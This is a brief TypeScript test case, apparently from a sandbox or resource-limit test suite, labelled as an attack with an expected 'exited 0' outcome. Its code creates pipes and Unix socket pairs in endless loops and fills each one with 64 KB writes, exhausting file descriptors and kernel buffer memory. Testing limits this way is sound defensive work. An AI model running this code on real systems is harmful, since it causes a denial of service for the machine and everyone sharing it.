// Attack: fills every pipe and socket pair that it can make, in processes that go on, and leaves them full.
// Ends: exited 0
import { loadNative } from "./means/native.ts";

const O_NONBLOCK = 0o4000;
const [AF_UNIX, SOCK_STREAM] = [1, 1];

export function attack(): void {
  const { call } = loadNative();
  const pair = Buffer.alloc(8);
  const piece = Buffer.alloc(65536);
  for (;;) {
    if (call("pipe2", pair, O_NONBLOCK) < 0) break;
    while (call("write", pair.readInt32LE(4), piece, piece.length) > 0);
  }
  call("close_range", 3, 20, 0);
  for (;;) {
    if (call("socketpair", AF_UNIX, SOCK_STREAM | O_NONBLOCK, 0, pair) < 0) break;
    while (call("write", pair.readInt32LE(4), piece, piece.length) > 0);
  }
}
